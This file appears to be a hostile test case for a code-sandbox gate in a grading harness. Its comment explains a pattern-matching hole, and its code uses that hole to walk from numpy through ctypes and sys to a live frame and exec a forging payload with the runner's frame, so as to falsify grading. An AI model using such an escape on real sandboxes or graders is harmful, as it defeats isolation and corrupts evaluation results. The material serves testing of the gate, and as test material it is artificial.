# ruff: noqa: F821  (a part: the test puts the stub and `_FORGE = "..."` before it)
# rt15 (hostile, escape): a class pattern's keyword capture takes a nested class as a value. `case _Outer(Inner=c)`
# reads `subject.Inner`: rules.pattern checks that read with `member` (a nested class, typed as that own class)
# but drops the value, and binds `c` -- a `match` binding, which resolve.py types as UNKNOWN. So `c` is the
# guarded class `Inner` as a value the gate cannot type: on it the unbound methods `Inner` defines (named like
# `ATTRIBUTES` entries) run with any object as the `self` the gate trusts: numpy -> ctypes -> sys -> a frame,
# and the forger of test_gate_grading.py runs with the runner's frame (the chain of rt14, by another road).
import numpy as np


class _Outer:
    class Inner:
        def __init__(self):
            self._ctypes = None
            self._sys = None
            self._getframe = None
            self.modules = None
            self.exec = None

        def values(self):
            return self.ctypes

        def keys(self):
            return self._ctypes

        def items(self):
            return self._sys

        def get(self):
            return self._getframe

        def pop(self):
            return self.modules

        def index(self):
            return self.exec


match _Outer():
    case _Outer(Inner=_C):  # hole
        _sys = _C.items(_C.keys(_C.values(np.zeros(1))))
        _C.index(_C.pop(_sys)["builtins"])(_FORGE, {"_frame": _C.get(_sys)()})
